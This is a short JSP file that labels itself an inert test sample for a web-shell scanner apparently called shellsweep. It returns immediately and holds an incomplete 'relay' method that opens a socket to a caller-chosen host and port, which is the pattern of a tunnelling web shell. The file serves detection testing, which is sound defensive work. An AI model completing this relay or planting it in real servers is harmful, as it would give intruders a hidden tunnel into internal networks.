<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%! void relay(javax.servlet.http.HttpServletRequest req, javax.servlet.http.HttpServletResponse resp, String host, int port) throws Exception {
    java.nio.channels.SocketChannel sc = java.nio.channels.SocketChannel.open();
    sc.socket().connect(new java.net.InetSocketAddress(host, port), 3000);
    java.io.InputStream in = req.getInputStream(); java.io.OutputStream out2 = resp.getOutputStream(); } %>
